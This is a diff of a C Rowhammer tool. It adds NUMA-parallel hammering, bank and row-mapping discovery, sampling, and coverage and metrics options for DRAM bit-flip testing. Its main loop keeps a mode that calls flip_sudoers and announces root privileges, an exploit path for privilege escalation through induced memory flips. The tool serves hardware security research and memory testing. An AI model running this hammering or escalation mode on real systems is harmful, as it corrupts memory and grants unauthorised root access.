+	c->load = &load;
+
+	bytes = load_bytes(&load);
+	t_start = timing_now_ns();
+	loaded = hammer_reference_rate(c, 0);
+	t_delta = timing_now_ns() - t_start;
+	mbps = t_delta ? (load_bytes(&load) - bytes) * 1e3 / t_delta : 0;
+	hammer_ctx_unmap_buffers(c);
+
+	pr_info("[INFO] Background load: %0.0f MB/s, reference rate %0.2f -> %0.2f M ACT/s (%+0.1f%%)\n",
+			mbps, idle / 1e6, loaded / 1e6, idle ? 100.0 * (loaded - idle) / idle : 0);
+	return 0;
+}
+
+/* Per-node worker with its own context: pinned to the
+   CPUs of its node, sweeps its own node-local buffers. */
+static void *numa_worker_run(void *arg)
+{
+	numa_worker_t *worker;
+	hammer_config_t conf;
+	hammer_ctx_t wctx;
+	sweep_t sweep = {0};
+	unsigned j;
+	int rv;
+
+	worker = (numa_worker_t *) arg;
+	conf = ctx.conf;
+	conf.numa_node = worker->node;
+	/* One CPU per worker, picked inside its node */
+	if(conf.cpu != ENV_NO_CPU) {
+		conf.cpu = ENV_AUTO_CPU;
+	}
+	/* The row map is copied from the main context below */
+	conf.row_map_path = NULL;
+	if((rv = hammer_ctx_init(&wctx, &conf))) {
+		pr_err("[ERROR] Cannot set up worker for node %d\n", worker->node);
+		worker->status = rv;
+		return NULL;
+	}
+	/* Same geometry and adjacency as the main context */
+	wctx.dram = ctx.dram;
+	wctx.row_map = ctx.row_map;
+	wctx.load = ctx.load;
+	wctx.stats = ctx.stats;
+	sweep.find_template = 1;
+	hammer_ctx_set_callback(&wctx, on_result, &sweep);
+	print_warnings(&wctx);
+
+	for(j = 1; j <= NUM_BUFFERS && !sweep_stop; j++) {
+		/* The other workers are still hammering, stop this one only */
+		if((rv = try_map_buffer(&wctx, worker->slot + j))) {
+			pr_err("[ERROR] NODE %d stops after %u buffers\n", worker->node, worker->nbuffers);
+			worker->status = rv;
+			break;
+		}
+		pr_info("[+] NODE %d Buffer %d\n", worker->node, j);
+		if(conf.interleave_banks) {
+			hammer_banks_interleaved(&wctx, 0, conf.interleave_banks);
+		}
+		else {
+			hammer_all_banks(&wctx, 0);
+		}
+		hammer_ctx_unmap_buffers(&wctx);
+		worker->nbuffers++;
+	}
+	/* Hand the flips over instead of copying them */
+	worker->flips = wctx.flips;
+	flipmap_init(&wctx.flips);
+	memcpy(worker->flips_at, sweep.flips_at, sizeof(sweep.flips_at));
+	hammer_ctx_destroy(&wctx);
+
+	return NULL;
+}
+
+/* Run one sweep worker per NUMA node and report the results per
+   node/socket. All started workers are joined and their results
+   kept, returns the first error a worker stopped on. */
+static int hammer_numa_nodes(sweep_t *sweep)
+{
+	numa_worker_t *workers;
+	unsigned i, d, nstarted;
+	int rv;
+
+	workers = calloc(ctx.numa_topo.nnodes, sizeof(numa_worker_t));
+	assert(workers != NULL);
+
+	rv = 0;
+	for(nstarted = 0; nstarted < ctx.numa_topo.nnodes; ++nstarted) {
+		workers[nstarted].node = ctx.numa_topo.node_ids[nstarted];
+		workers[nstarted].slot = nstarted * NUMA_BUFFER_STRIDE;
+		if((rv = -pthread_create(&workers[nstarted].tid, NULL, numa_worker_run, &workers[nstarted]))) {
+			pr_err("[ERROR] Cannot start worker for node %d\n", workers[nstarted].node);
+			break;
+		}
+	}
+
+	for(i = 0; i < nstarted; ++i) {
+		pthread_join(workers[i].tid, NULL);
+		if(rv == 0) {
+			rv = workers[i].status;
+		}
+	}
+
+	for(i = 0; i < nstarted; ++i) {
+		pr_info("[INFO] NODE %d (socket %d): %u buffers, %lu flipped bits\n", workers[i].node,
+				ctx.numa_topo.socket_ids[i], workers[i].nbuffers, flipmap_count(&workers[i].flips, 0));
+		if(flipmap_merge(&ctx.flips, &workers[i].flips)) {
+			ctx.warnings |= HAMMER_WARN_FLIPMAP;
+		}
+		flipmap_free(&workers[i].flips);
+		for(d = 0; d <= HAMMER_MAX_RADIUS; ++d) {
+			sweep->flips_at[d] += workers[i].flips_at[d];
+		}
+	}
+	free(workers);
+	return rv;
+}
+
+/* function is a XOR of the profile's masks (within the 2MB page) */
+static int profile_spans(hammer_ctx_t *c, uint64_t function)
+{
+	uint64_t echelon[64] = {0}, v;
+	unsigned i;
+	int bit;
+
+	for(i = 0; i <= c->dram.nmasks; ++i) {
+		v = (i < c->dram.nmasks ? c->dram.function_masks[i] : function) & (BUFFER_SIZE - 1);
+		for(bit = 63; bit >= 0; --bit) {
+			if(((v >> bit) & 1) && echelon[bit]) {
+				v ^= echelon[bit];
+			}
+		}
+		if(v == 0) {
+			return i == c->dram.nmasks;
+		}
+		echelon[63 - __builtin_clzll(v)] = v;
+	}
+	return 0;
+}
+
+/* Partition nsamples random addresses of buffer into bank sets and
+   solve the bank functions from them, flagging the ones the profile
+   does not have (channel/rank bits or a wrong profile). */
+static int cluster_banks(hammer_ctx_t *c, unsigned buffer, size_t nsamples)
+{
+	hammer_bank_sets_t sets;
+	uint64_t *functions, *fn, t_start, row_mask, fn_row;
+	unsigned s, nfunctions;
+	int rv;
+
+	/* The functions are solved on virtual addresses */
+	if(!hammer_buffer_is_huge(hammer_ctx_buffer(c, buffer))) {
+		pr_err("[WARN] Buffer is not huge page backed, address bits above 12 are not physical.\n");
+	}
+	t_start = timing_now_ns();
+	if((rv = hammer_cluster_banks(c, buffer, nsamples, &sets))) {
+		return rv;
+	}
+	pr_info("[INFO] %u bank sets from %lu addresses (%lu unassigned), %lu measurements in %0.1f s, conflict >= %0.0f ns\n",
+			sets.nsets, sets.nsamples, sets.unassigned, sets.measurements, (timing_now_ns() - t_start) / 1e9,
+			sets.threshold_ns);
+	for(s = 0; s < sets.nsets; ++s) {
+		pr_info("Set %3u: %4lu addresses, e.g. %p\n", s, sets.offsets[s + 1] - sets.offsets[s], sets.addrs[sets.offsets[s]]);
+	}
+
+	functions = hammer_solve_functions(&sets);
+	hammer_bank_sets_free(&sets);
+	if(functions == NULL) {
+		return -ENOMEM;
+	}
+
+	nfunctions = 0;
+	for(fn = functions; *fn != 0; ++fn, ++nfunctions) {
+		pr_info("Function 0x%06lx%s\n", *fn, profile_spans(c, *fn) ? "" : "  (not in profile: channel/rank?)");
+	}
+	pr_info("[INFO] %u functions (%u banks), profile %s has %u (%u banks)\n",
+			nfunctions, 1 << nfunctions, c->dram.name, c->dram.nmasks, c->dram.nbanks);
+	free(functions);
+
+	/* Row bits on top of the profile's functions */
+	t_start = timing_now_ns();
+	row_mask = c->dram.row_mask;
+	if((fn_row = hammer_discover_row_mask(c, buffer, &c->dram)) == 0) {
+		pr_info("[INFO] Row bits: no row buffer timing signal\n");
+	}
+	else {
+		pr_info("[INFO] Row bits 0x%06lx in %0.1f s, profile has 0x%06lx\n", fn_row,
+				(timing_now_ns() - t_start) / 1e9, row_mask);
+	}
+	return 0;
+}
+
+#ifdef CALC_DRAM_CONFIG
+static void print_bank_rows(hammer_ctx_t *c, unsigned buffer, unsigned bank_n)
+{
+	uint8_t *addrs[MAX_CONTROLLED_ROWS];
+	unsigned i;
+	FILE *fp;
+
+	fp = fopen("hwsec05.csv", "w+");
+	if(fp == NULL) {
+		pr_err("Couldn't create hwsec05.csv\n");
+		return;
+	}
+
+	hammer_bank_rows(c, hammer_ctx_buffer(c, buffer), bank_n, addrs);
+	for(i = 0; i < c->dram.nrows; ++i) {
+		pr_info("Row %u -> %p\n", i, addrs[i]);
+	}
+
+	for(i = 0; i < c->dram.nrows - 1; ++i) {
+		fprintf(fp, "%p, %p\n", addrs[i], addrs[i + 1]);
 	}
 	fclose(fp);
-}	
+}
 #endif
 
 int main(int argc, char **argv)
 {
-    uint8_t *buff;
-	void *addr_2mb_align;
-	int choice, option_index;
-	unsigned j;
+#ifdef CALC_DRAM_CONFIG
+	uint64_t *function_candidates, *fn;
+#endif
+	sweep_t sweep = {0};
+	campaign_t campaign;
+	budget_t budget;
+	int exit_code;
+	int choice, option_index, rv, resume;
+	unsigned j, bank;
 
 	/* Default configuration */
+	resume = 0;
+	exit_code = 0;
 	hammer_conf = malloc(sizeof(hammer_config_t));
 	hammer_conf->num_row_activations = NACTIVATIONS;
 	hammer_conf->hammering_rounds = 17;
 	hammer_conf->random_pairs = 1000;
+	hammer_conf->interleave_banks = 0;
+	hammer_conf->numa_node = NUMA_NO_NODE;
+	hammer_conf->cpu = ENV_NO_CPU;
+	hammer_conf->fifo_prio = 0;
+	hammer_conf->numa_all = 0;
+	hammer_conf->perf = 0;
+	hammer_conf->infer_rows = 0;
+	hammer_conf->row_map_path = NULL;
+	hammer_conf->dram_gen = NULL;
+	hammer_conf->daemon_path = NULL;
+	hammer_conf->edac_root = NULL;
+	hammer_conf->time_budget = 0;
+	hammer_conf->history_path = NULL;
+	hammer_conf->cluster_samples = 0;
+	hammer_conf->blast_radius = 0;
+	hammer_conf->load_spec = NULL;
+	hammer_conf->validate = VALIDATE_WARN;
+	hammer_conf->coverage_path = NULL;
+	hammer_conf->metrics_path = NULL;
+	hammer_conf->sample_spec = NULL;
+	hammer_conf->sample_seed = 0;
+	hammer_conf->campaign_path = NULL;
 	hammer_conf->random_mode = 0;
 	hammer_conf->print_rows = 0;
 	hammer_conf->bank_n = -1;
@@ -980,6 +1302,29 @@ int main(int argc, char **argv)
 		{"rounds",  required_argument, 	NULL, 'R'},
 		{"nactiv", 	required_argument, 	NULL, 'n'},
 		{"r_pairs", required_argument, 	NULL, 'p'},
+		{"interleave", required_argument, NULL, 'i'},
+		{"numa",	required_argument,	NULL, 'N'},
+		{"perf",	no_argument,		NULL, 'e'},
+		{"infer_rows",	no_argument,		NULL, 'I'},
+		{"row_map",	required_argument,	NULL, 'M'},
+		{"gen",		required_argument,	NULL, 'g'},
+		{"daemon",	required_argument,	NULL, 'D'},
+		{"campaign",	required_argument,	NULL, 'C'},
+		{"cpu",		required_argument,	NULL, 'c'},
+		{"fifo",	required_argument,	NULL, 'F'},
+		{"edac",	required_argument,	NULL, 'E'},
+		{"time-budget",	required_argument,	NULL, 'T'},
+		{"history",	required_argument,	NULL, 'H'},
+		{"cluster",	required_argument,	NULL, 'K'},
+		{"blast",	required_argument,	NULL, 'B'},
+		{"load",	required_argument,	NULL, 'L'},
+		{"validate",	required_argument,	NULL, 'V'},
+		{"coverage",	required_argument,	NULL, 'O'},
+		{"resume",	no_argument,		NULL, OPT_RESUME},
+		{"metrics",	required_argument,	NULL, 'X'},
+		{"sample",	required_argument,	NULL, 'S'},
+		{"seed",	required_argument,	NULL, OPT_SEED},
+		{"stat",	required_argument,	NULL, OPT_STAT},
 
 		/* Extra args */
 		{"print_rows",	optional_argument,  NULL, 'P'},
@@ -995,7 +1340,7 @@ int main(int argc, char **argv)
 	opterr = 0;					// Suppressing getopt errors
 	option_index = 0;			// Default option index (imp.)
 	
-	while((choice = getopt_long (argc, argv, "farhvb:R:n:p:P:",
+	while((choice = getopt_long (argc, argv, "farhveIb:R:n:p:P:i:N:M:g:D:C:c:F:E:T:H:K:B:L:V:O:X:S:",
 					long_options, &option_index)) != 1) {	
 		
 		/* No arguments provided. */
@@ -1067,6 +1412,143 @@ int main(int argc, char **argv)
 				hammer_conf->num_row_activations = atof(optarg) * 1000000;
 				break;
 
+			case 'i':
+				if (hammer_conf->random_mode != 0){
+					printf("[ERR ] You have already selected -r (--random) hammer mode. Conflicting args. Exiting...\n\n");
+					goto out_bad;
+				}
+				hammer_conf->interleave_banks = atoi(optarg);
+				break;
+
+			case 'N':
+				if (strcmp(optarg, "all") == 0){
+					hammer_conf->numa_all = 1;
+				}
+				else {
+					hammer_conf->numa_node = atoi(optarg);
+				}
+				break;
+
+			case 'e':
+				hammer_conf->perf = 1;
+				break;
+
+			case 'I':
+				hammer_conf->infer_rows = 1;
+				break;
+
+			case 'M':
+				hammer_conf->row_map_path = optarg;
+				break;
+
+			case 'g':
+				hammer_conf->dram_gen = optarg;
+				break;
+
+			case 'D':
+				hammer_conf->daemon_path = optarg;
+				break;
+
+			case 'C':
+				hammer_conf->campaign_path = optarg;
+				break;
+
+			case 'c':
+				if (strcmp(optarg, "auto") == 0){
+					hammer_conf->cpu = ENV_AUTO_CPU;
+				}
+				else {
+					hammer_conf->cpu = atoi(optarg);
+				}
+				break;
+
+			case 'F':
+				hammer_conf->fifo_prio = atoi(optarg);
+				break;
+
+			case 'E':
+				hammer_conf->edac_root = optarg;
+				break;
+
+			case 'T':
+				hammer_conf->time_budget = atof(optarg);
+				break;
+
+			case 'H':
+				hammer_conf->history_path = optarg;
+				break;
+
+			case 'O':
+				hammer_conf->coverage_path = optarg;
+				break;
+
+			case OPT_RESUME:
+				resume = 1;
+				break;
+
+			case 'X':
+				hammer_conf->metrics_path = optarg;
+				break;
+
+			case 'S':
+				hammer_conf->sample_spec = optarg;
+				if (sample_parse(&sample, optarg)){
+					printf("[ERR ] Bad sample %s, expected rate[,half width[,max units]] with 0 < rate < 1. Exiting...\n\n", optarg);
+					goto out_bad;
+				}
+				break;
+
+			case OPT_SEED:
+				hammer_conf->sample_seed = strtoull(optarg, NULL, 0);
+				break;
+
+			case OPT_STAT:
+				if ((rv = stats_print(atoi(optarg)))){
+					printf("[ERR ] No statistics of pid %s (%s). Exiting...\n\n", optarg,
+							rv == -ENOENT ? "not running or no shm" : strerror(-rv));
+					goto out_bad;
+				}
+				return 0;
+
+			case 'V':
+				if (strcmp(optarg, "off") == 0){
+					hammer_conf->validate = VALIDATE_OFF;
+				}
+				else if (strcmp(optarg, "warn") == 0){
+					hammer_conf->validate = VALIDATE_WARN;
+				}
+				else if (strcmp(optarg, "fail") == 0){
+					hammer_conf->validate = VALIDATE_FAIL;
+				}
+				else if (strcmp(optarg, "discover") == 0){
+					hammer_conf->validate = VALIDATE_DISCOVER;
+				}
+				else {
+					printf("[ERR ] Unknown -V %s, expected off|warn|fail|discover. Exiting...\n\n", optarg);
+					goto out_bad;
+				}
+				break;
+
+			case 'L':
+				hammer_conf->load_spec = optarg;
+				if (load_parse(&load, optarg)){
+					printf("[ERR ] Bad load %s, expected threads[,MB/s[,stream|random[,node]]]. Exiting...\n\n", optarg);
+					goto out_bad;
+				}
+				break;
+
+			case 'B':
+				hammer_conf->blast_radius = atoi(optarg);
+				if (hammer_conf->blast_radius > HAMMER_MAX_RADIUS){
+					printf("[ERR ] Blast radius is at most %d rows. Exiting...\n\n", HAMMER_MAX_RADIUS);
+					goto out_bad;
+				}
+				break;
+
+			case 'K':
+				hammer_conf->cluster_samples = strtoull(optarg, NULL, 10);
+				break;
+
 			case 'p':
 				hammer_conf->random_pairs = atoi(optarg);
 				hammer_conf->random_mode = 1;
@@ -1113,7 +1595,7 @@ int main(int argc, char **argv)
 						break;
 					}
 				}
-				else if (optopt == 'R' || optopt == 'n' || optopt == 'p') {
+				else if (optopt == 'R' || optopt == 'n' || optopt == 'p' || optopt == 'i' || optopt == 'N' || optopt == 'M' || optopt == 'g' || optopt == 'D' || optopt == 'C' || optopt == 'c' || optopt == 'F' || optopt == 'E' || optopt == 'T' || optopt == 'H' || optopt == 'K' || optopt == 'B' || optopt == 'L' || optopt == 'V' || optopt == 'O' || optopt == 'X' || optopt == 'S') {
 					/* Required flag provided with no value. */
 					printf("The -%c (--%s) flag requires an argument. See usage below:\n\n",
 								optopt, retrieve_arg_index(optopt, long_options));
@@ -1133,83 +1615,302 @@ int main(int argc, char **argv)
 		}
 	}
 
-	/* Print header and config*/
-	print_header(1);
-	print_config();
+	/* Memory generation: -g, else the name we were invoked as (ddr3/ddr4) */
+	if (hammer_conf->dram_gen == NULL){
+		hammer_conf->dram_gen = basename(argv[0]);
+	}
+	if (hammer_conf->sample_spec){
+		if (hammer_conf->sample_seed == 0){
+			hammer_conf->sample_seed = timing_now_ns();
+		}
+		sample.seed = hammer_conf->sample_seed;
+	}
+	if (hammer_conf->numa_all && hammer_conf->random_mode){
+		printf("[ERR ] -N all needs a sweep mode (-a or -i). Exiting...\n\n");
+		goto out_bad;
+	}
+
+	if (hammer_conf->metrics_path){
+		metrics_init(&metrics_state, hammer_conf->metrics_path);
+		metrics = &metrics_state;
+	}
 
-	/* Mapping contiguous memory on 2MB boundary. */
-	//addr_2mb_align = (void *) 0x200000;
-	//buf = map_contiguous_buffer(addr_2mb_align);
+	/* Profile, timing, row adjacency, NUMA and counters */
+	rv = hammer_ctx_init(&ctx, hammer_conf);
+	if (rv == -EINVAL && hammer_conf->dram_gen == basename(argv[0])){
+		hammer_ctx_destroy(&ctx);
+		hammer_conf->dram_gen = "ddr3";
+		rv = hammer_ctx_init(&ctx, hammer_conf);
+	}
+	if (rv == -EINVAL){
+		printf("[ERR ] Unknown DRAM generation/profile %s. Exiting...\n\n", hammer_conf->dram_gen);
+		goto out_bad;
+	}
+	else if (rv == -ENODEV){
+		printf("[ERR ] NUMA node %d not found. Exiting...\n\n", hammer_conf->numa_node);
+		goto out_bad;
+	}
+	else if (rv){
+		printf("[ERR ] Cannot set up hammering (%s). Exiting...\n\n", strerror(-rv));
+		goto out_bad;
+	}
+	print_warnings(&ctx);
+	if ((stats = stats_create()) == NULL){
+		pr_err("[WARN] No live statistics segment (%s)\n", strerror(errno));
+	}
+	atexit(stop_stats);
+	ctx.stats = stats;
+	if (hammer_conf->row_map_path == NULL){
+		hammer_conf->row_map_path = ctx.conf.row_map_path = ROWMAP_DEFAULT_PATH;
+	}
 
-	/* Filling buffer with similar/random data.
-	 *	1. SAME_FILL   : Fills 0xFF
-	 *	2. RANDOM_FILL : Fills random chars
-	 */
-	//fill_buffer(buf, 0, SAME_FILL);
+	sweep.find_template = 1;
+	hammer_ctx_set_callback(&ctx, on_result, &sweep);
+	bank = hammer_conf->bank_n == -1 ? 0 : hammer_conf->bank_n;
 
-	
+	/* Print header and config*/
+	print_header(1);
+	print_config();
 
 	/* Decoding DRAM Config */
-#ifdef CALC_DRAM_CONFIG 
-	generate_dram_functions(buf);
+#ifdef CALC_DRAM_CONFIG
+	map_buffer(&ctx, 1);
+	if ((function_candidates = hammer_discover_functions(&ctx, 0)) != NULL){
+		for (fn = function_candidates; *fn != 0; ++fn){
+			pr_info("0x%lx\n", *fn);
+		}
+		free(function_candidates);
+	}
 
-	row_mask = row_index_sc(buf);	
-	pr_info("rowmask -> %lx\n", row_mask);
+	sweep.find_template = 0;
+	pr_info("rowmask -> %lx\n", hammer_discover_row_mask(&ctx, 0, &ctx.dram));
+	sweep.find_template = 1;
+	hammer_ctx_unmap_buffers(&ctx);
 #endif
 
-	
-	j = 1;
+	if (metrics){
+		metrics_phase(metrics, METRICS_CHECK, ctx.dram.name);
+	}
+	stats_phase(stats, STATS_CHECK);
+
+	/* Before the load, which would blur the timing */
+	if (hammer_conf->validate != VALIDATE_OFF && hammer_conf->cluster_samples == 0 && (rv = validate_profile(&ctx))){
+		pr_err("[ERROR] Profile %s failed the startup check (%s). Exiting...\n", ctx.dram.name, strerror(-rv));
+		if (metrics){
+			metrics_phase(metrics, METRICS_DONE, NULL);
+			metrics_write(metrics);
+		}
+		hammer_ctx_destroy(&ctx);
+		goto out_bad;
+	}
+
+	/* Background traffic runs for the whole of the run */
+	if (hammer_conf->load_spec && (rv = start_load(&ctx))){
+		pr_err("[ERROR] Cannot start background load (%s). Exiting...\n", strerror(-rv));
+		hammer_ctx_destroy(&ctx);
+		goto out_bad;
+	}
+
+	if (resume && hammer_conf->coverage_path == NULL){
+		hammer_conf->coverage_path = COVERAGE_DEFAULT_PATH;
+	}
+	/* Workers map their buffers NUMA_BUFFER_STRIDE slots apart */
+	if (hammer_conf->coverage_path && hammer_conf->numa_all &&
+		ctx.numa_topo.nnodes * NUMA_BUFFER_STRIDE > COVERAGE_MAX_SLOTS){
+		pr_err("[ERROR] -O tracks %u buffer slots, %u NUMA nodes use %u. Exiting...\n", COVERAGE_MAX_SLOTS,
+				ctx.numa_topo.nnodes, ctx.numa_topo.nnodes * NUMA_BUFFER_STRIDE);
+		hammer_ctx_destroy(&ctx);
+		goto out_bad;
+	}
+	if (hammer_conf->coverage_path){
+		start_coverage(&ctx, resume);
+	}
+	if (metrics){
+		metrics_phase(metrics, METRICS_SWEEP, NULL);
+		metrics_write(metrics);
+	}
+	stats_phase(stats, STATS_SWEEP);
 
 	/* Hacky logic for now */
 	if(hammer_conf->flip == 1) {
-		for(j = 1; j <= 20; j++){                          	
+		for(j = 1; j <= NUM_BUFFERS; j++){
 			srand(time(NULL));
-			addr_2mb_align = (void *) (uintptr_t) (j * 0x200000);    	
-			buff = map_contiguous_buffer(addr_2mb_align);
+			map_buffer(&ctx, j);
 			pr_info("[+] Buffer %d\n", j);
-			fill_buffer(buff, 0, SAME_FILL);
-			add_entropy(buff);
-			if(flip_sudoers(buff) == 0) {
+			if(flip_sudoers(&ctx, 0) == 0) {
 				pr_info("You now have root privileges :)\n\n\n");
 				return 0;
 			}
+			hammer_ctx_unmap_buffers(&ctx);
 		}
-	
+
 	}
-#ifdef CALC_DRAM_CONFIG 
+#ifdef CALC_DRAM_CONFIG
 	else if (hammer_conf->print_rows){
-		pr_info("[INFO] Priniting adjacent rows for bank: %lu", hammer_conf->bank_n);
-		addr_2mb_align = (void *) (uintptr_t) (j * 0x200000);    	
-		buff = map_contiguous_buffer(addr_2mb_align);
-		print_bank_rows(buff, hammer_conf->bank_n);
+		pr_info("[INFO] Priniting adjacent rows for bank: %u", bank);
+		map_buffer(&ctx, 1);
+		print_bank_rows(&ctx, 0, bank);
 	}
 #endif
+	else if (hammer_conf->daemon_path) {
+		if ((rv = daemon_run(&ctx, hammer_conf->daemon_path, 1, NUM_BUFFERS))){
+			pr_err("[ERROR] Daemon failed (%s)\n", strerror(-rv));
+		}
+	}
+	else if (hammer_conf->campaign_path) {
+		if (campaign_load(&campaign, hammer_conf->campaign_path, &ctx.dram) == 0 &&
+			(rv = campaign_run(&ctx, &campaign, 1))){
+			pr_err("[ERROR] Campaign failed (%s)\n", strerror(-rv));
+		}
+	}
+	else if (hammer_conf->sample_spec) {
+		sweep.find_template = 0;
+		if ((rv = sample_run(&ctx, &sample, 1, NUM_BUFFERS))){
+			pr_err("[ERROR] Sampling failed (%s)\n", strerror(-rv));
+		}
+		else {
+			pr_info("[SAMPLE] %s: %lu units in %0.1f s, fraction with flips in [%0.4f, %0.4f], threshold %0.4f (seed %lu)\n",
+					sample_verdict(sample.verdict), sample.units, sample.elapsed_ns / 1e9, sample.lower,
+					sample.upper, sample.threshold, sample.seed);
+			exit_code = sample.verdict == SAMPLE_FAIL ? 2 : 0;
+		}
+	}
+	else if (hammer_conf->time_budget > 0) {
+		sweep.find_template = 0;
+		memset(&budget, 0, sizeof(budget));
+		budget.budget_ns = hammer_conf->time_budget * 1e9;
+		if (hammer_conf->history_path &&
+			(rv = budget_load_history(&budget, hammer_conf->history_path, &ctx.dram)) && rv != -ENOENT){
+			/* Not ours to overwrite either */
+			pr_err("[WARN] Ignoring history %s, it is not a %s history\n", hammer_conf->history_path, ctx.dram.name);
+			memset(&budget, 0, sizeof(budget));
+			budget.budget_ns = hammer_conf->time_budget * 1e9;
+		}
+		if ((rv = budget_run(&ctx, &budget, 1, NUM_BUFFERS))){
+			pr_err("[ERROR] Time-budgeted run failed (%s)\n", strerror(-rv));
+		}
+	}
+	else if (hammer_conf->cluster_samples) {
+		map_buffer(&ctx, 1);
+		if ((rv = cluster_banks(&ctx, 0, hammer_conf->cluster_samples))){
+			pr_err("[ERROR] Bank clustering failed (%s)\n", strerror(-rv));
+		}
+	}
+	else if (hammer_conf->infer_rows) {
+		map_buffer(&ctx, 1);
+		if (hammer_conf->bank_n == -1){
+			pr_info("Inferring row adjacency in ALL BANKS\n");
+		}
+		else {
+			pr_info("Inferring row adjacency in BANK %u\n", bank);
+		}
+		if ((rv = hammer_infer_row_map(&ctx, 0, hammer_conf->bank_n == -1 ? -1 : (int) bank))){
+			pr_err("[ERROR] Cannot save row map to %s (%s)\n", ctx.conf.row_map_path, strerror(-rv));
+		}
+		else {
+			for(j = 0; j < ctx.row_map.nrows; ++j) {
+				pr_info("Row %2u -> neighbours %3d %3d (%s)\n", j, ctx.row_map.neighbours[j][0],
+						ctx.row_map.neighbours[j][1], ctx.row_map.inferred[j] ? "inferred" : "logical");
+			}
+			pr_info("[INFO] Row map saved to %s\n", ctx.conf.row_map_path);
+		}
+	}
+	else if (hammer_conf->numa_all) {
+		if ((rv = hammer_numa_nodes(&sweep))){
+			pr_err("[ERROR] NUMA sweep incomplete (%s)\n", strerror(-rv));
+			exit_code = EXIT_FAILURE;
+		}
+	}
+	else if (hammer_conf->interleave_banks && (hammer_conf->random_mode == 0)) {
+		for(j = 1; j <= NUM_BUFFERS && !sweep_stop; j++){
+			map_buffer(&ctx, j);
+			hammer_banks_interleaved(&ctx, 0, hammer_conf->interleave_banks);
+			hammer_ctx_unmap_buffers(&ctx);
+		}
+	}
 	else if (hammer_conf->all_banks && (hammer_conf->random_mode == 0)) {
-		for(j = 1; j <= 20; j++){
-			addr_2mb_align = (void *) (uintptr_t) (j * 0x200000);
-			buff = map_contiguous_buffer(addr_2mb_align);
-            fill_buffer(buff, 0, SAME_FILL);
-			add_entropy(buff);
-			hammer_all_banks(buff);
+		for(j = 1; j <= NUM_BUFFERS && !sweep_stop; j++){
+			map_buffer(&ctx, j);
+			hammer_all_banks(&ctx, 0);
+			hammer_ctx_unmap_buffers(&ctx);
 		}
 	}
 	else if ((hammer_conf->all_banks == 0) && hammer_conf->random_mode) {
-		addr_2mb_align = (void *) (uintptr_t) (j * 0x200000);    	
-		buff = map_contiguous_buffer(addr_2mb_align);
-		hammer_rand_pairs(buff, hammer_conf->random_pairs);
+		sweep.find_template = 0;
+		map_buffer(&ctx, 1);
+		hammer_rand_pairs(&ctx, hammer_conf->random_pairs);
 	}
 	else {
-		addr_2mb_align = (void *) (uintptr_t) (j * 0x200000);    	
-		buff = map_contiguous_buffer(addr_2mb_align);
-		hammer_bank(buff, hammer_conf->bank_n);
+		map_buffer(&ctx, 1);
+		hammer_bank(&ctx, 0, bank);
 	}
 
-	/* Unmapping mapped memory */
-	for(; j-- > 0;) {
-		assert(munmap((void *) (uintptr_t)(j * 0x200000), BUFFER_SIZE) == 0);
+	/* Distinct flips over the whole pool, repeated flips count once */
+	print_warnings(&ctx);
+	if(flipmap_count(&ctx.flips, 0)) {
+		pr_info("[INFO] Pool: %lu flipped bits (%lu 0 -> 1, %lu 1 -> 0), %zu bytes tracked\n",
+				flipmap_count(&ctx.flips, 0), flipmap_count(&ctx.flips, ZERO_TO_ONE),
+				flipmap_count(&ctx.flips, ONE_TO_ZERO), flipmap_bytes(&ctx.flips));
 	}
+
+	/* Half-double and friends flip rows further out */
+	if(hammer_conf->blast_radius) {
+		pr_info("[INFO] Flips by distance from the aggressors:");
+		for(j = 0; j <= hammer_conf->blast_radius; ++j) {
+			pr_info(" %u: %lu", j, sweep.flips_at[j]);
+		}
+		pr_info("\n");
+	}
+
+	if(coverage) {
+		if((rv = coverage_save(coverage))) {
+			pr_err("[ERROR] Cannot save coverage to %s (%s)\n", coverage->path, strerror(-rv));
+		}
+		else {
+			pr_info("[INFO] %s%lu triplets covered (%lu this run), saved to %s\n", sweep_stop ? "Interrupted, " : "",
+					coverage->ncovered, coverage->ncovered - coverage->nloaded, coverage->path);
+		}
+		if(coverage->nlost) {
+			pr_err("[WARN] %lu triplets were hammered outside the slots %s tracks, a resume repeats them\n",
+					coverage->nlost, coverage->path);
+		}
+	}
+
+	if(ctx.load) {
+		load_stop(&load);
+		pr_info("[INFO] Under %0.0f MB/s of load: %0.2f M ACT/s per bank, %0.3f flips per M ACT\n",
+				sweep.elapsed_ns ? sweep.load_mb * 1e9 / sweep.elapsed_ns : 0,
+				sweep.elapsed_ns ? sweep.acts * 1e3 / sweep.elapsed_ns : 0,
+				sweep.acts ? sweep.flips * 1e6 / sweep.acts : 0);
+	}
+
+	/* Flushed before hammering, a cached row means something read it since */
+	if(ctx.rows_probed) {
+		pr_info("[INFO] Scan: %lu of %lu rows still cached after hammering, flushed before the scan%s\n",
+				ctx.rows_cached, ctx.rows_probed, ctx.cache_hit_cycles ? "" : " (no cache timing signal)");
+	}
+
+	if(ctx.rows_written + ctx.rows_checked + ctx.rows_reused) {
+		pr_info("[INFO] Rows: %lu written, %lu checked, %lu reused as they were\n",
+				ctx.rows_written, ctx.rows_checked, ctx.rows_reused);
+	}
+
+	if(sweep.edac_ce || sweep.edac_ue) {
+		pr_info("[INFO] EDAC: %lu corrected, %lu uncorrected errors while hammering\n", sweep.edac_ce, sweep.edac_ue);
+	}
+
+	stats_phase(stats, STATS_DONE);
+	if(metrics) {
+		metrics_phase(metrics, METRICS_DONE, NULL);
+		if((rv = metrics_write(metrics))) {
+			pr_err("[ERROR] Cannot write metrics to %s (%s)\n", metrics->path, strerror(-rv));
+		}
+	}
+
+	/* Unmapping mapped memory */
+	hammer_ctx_destroy(&ctx);
 	print_header(0);
-    return 0;
+    return exit_code;
 
 out_bad:
     return EXIT_FAILURE;